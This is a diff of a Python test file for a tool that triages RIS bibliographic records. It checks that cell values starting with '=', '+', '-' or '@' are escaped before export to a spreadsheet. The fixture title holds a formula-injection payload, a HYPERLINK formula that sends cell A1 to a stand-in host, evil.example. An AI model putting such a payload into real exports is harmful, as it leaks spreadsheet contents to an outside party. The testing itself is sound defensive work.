@@ -17,13 +17,14 @@ from extractor.triage.criteria import Criteria
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click") trial'
 ABSTRACT = (
     "Background: Fathers of preterm infants are often left out of support. "
-    "Methods: In this randomised controlled trial, 120 fathers were randomised to peer support or usual care. "
+    "Methods: In this randomised controlled trial, 120 fathers were randomised to peer support "
+    "or usual care. "
     "Results: Peer support reduced paternal anxiety (SMD -0.34, 95% CI -0.60 to -0.08). "
     "Conclusions: Peer support helps fathers."
 )
 RIS = "\n".join([
-    "TY  - JOUR", f"TI  - {TITLE}", "AU  - @evil, Eve", "AU  - Smith, Ann", "PY  - 2021", "JO  - +Journal of Tests",
-    f"AB  - {ABSTRACT}", "ER  - ", "",
+    "TY  - JOUR", f"TI  - {TITLE}", "AU  - @evil, Eve", "AU  - Smith, Ann", "PY  - 2021",
+    "JO  - +Journal of Tests", f"AB  - {ABSTRACT}", "ER  - ", "",
 ])
 
 
@@ -40,7 +41,8 @@ RIS = "\n".join([
     ("-1.2.3", "'-1.2.3"),
     ("-١٢", "'-١٢"),  # digits a spreadsheet does not read as a number
     # plain numbers stay numbers
-    ("-0.34", "-0.34"), ("+1.5", "+1.5"), ("-.5", "-.5"), ("-1e-05", "-1e-05"), ("+2E3", "+2E3"), ("12", "12"),
+    ("-0.34", "-0.34"), ("+1.5", "+1.5"), ("-.5", "-.5"), ("-1e-05", "-1e-05"), ("+2E3", "+2E3"),
+    ("12", "12"),
     (-0.34, -0.34), (5, 5), (None, None),
     # text that starts with anything else is left as it is
     ("Peer support", "Peer support"), ("", ""), ("'=already text", "'=already text"), (" =1+1", " =1+1"),
